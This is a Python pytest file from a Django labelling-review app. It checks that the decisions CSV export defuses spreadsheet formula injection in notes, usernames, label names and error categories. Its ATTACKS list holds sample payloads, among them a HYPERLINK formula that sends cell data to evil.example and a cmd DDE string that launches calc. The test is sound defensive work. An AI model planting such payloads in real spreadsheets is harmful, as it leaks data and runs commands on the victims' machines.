"""Issue 12, break 1: formula injection through the decisions CSV. The attack: a reviewer
posts decisions through the API whose notes start like spreadsheet formulas (also a
leading tab or CR, which the API's CharField trim would reduce to '='); the curator's
decisions CSV must carry every one with a leading single quote, while MIDs and numbers
stay as they were."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from curation.exports import export_write
from relabel_app.models import Label
from tests.factories import ClipFactory, DatasetFactory, UserFactory

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _decisions_rows(dataset) -> list[dict]:
    buf = io.BytesIO()
    export_write(dataset=dataset, fmt="decisions", out=buf)
    return list(csv.DictReader(io.StringIO(buf.getvalue().decode())))


def test_formula_notes_posted_through_the_api_are_neutralised_in_the_decisions_csv():
    ds = DatasetFactory(name="csvattack")
    rita = UserFactory(username="rita-csv", role="reviewer")
    api = APIClient()
    api.force_authenticate(rita)
    clips = [ClipFactory(dataset=ds, position=i) for i in range(len(ATTACKS))]
    speech = Label.objects.get(mid="/m/09x0r")
    for clip, note in zip(clips, ATTACKS, strict=True):
        resp = api.post("/api/decisions/", {"clip": clip.pk, "label": speech.pk,
                                            "verdict": "reject", "note": note}, format="json")
        assert resp.status_code == 201, resp.content

    rows = _decisions_rows(ds)
    assert len(rows) == len(ATTACKS)
    for row in rows:
        note = row["note"]
        # Whatever the API stored (it may trim the tab/CR), the cell starts with a quote.
        assert note.startswith("'"), note
        assert note[1:2] in ("=", "+", "-", "@", "\t", "\r"), note
        assert row["label_mid"] == "/m/09x0r"  # MIDs unchanged
        assert row["start_seconds"] == "0.000"
    assert {r["note"].lstrip("'").strip() for r in rows} == {a.strip() for a in ATTACKS}


def test_usernames_label_names_and_categories_are_neutralised_too():
    from review.decisions import decision_record
    from review.models import ErrorCategory

    ds = DatasetFactory(name="csvattack2")
    evil = UserFactory(username="-evil", role="reviewer")
    clip = ClipFactory(dataset=ds)
    label = Label.objects.get(mid="/m/09x0r")
    cat = ErrorCategory.objects.create(slug="-cat", name="=cat")
    decision_record(clip=clip, label=label, reviewer=evil, verdict="reject",
                    error_category=cat, note="plain note")
    Label.objects.filter(pk=label.pk).update(name="=Speech")
    try:
        (row,) = _decisions_rows(ds)
    finally:
        Label.objects.filter(pk=label.pk).update(name="Speech")
    assert (row["reviewer"], row["label_name"], row["error_category"], row["note"]) == (
        "'-evil", "'=Speech", "'-cat", "plain note")
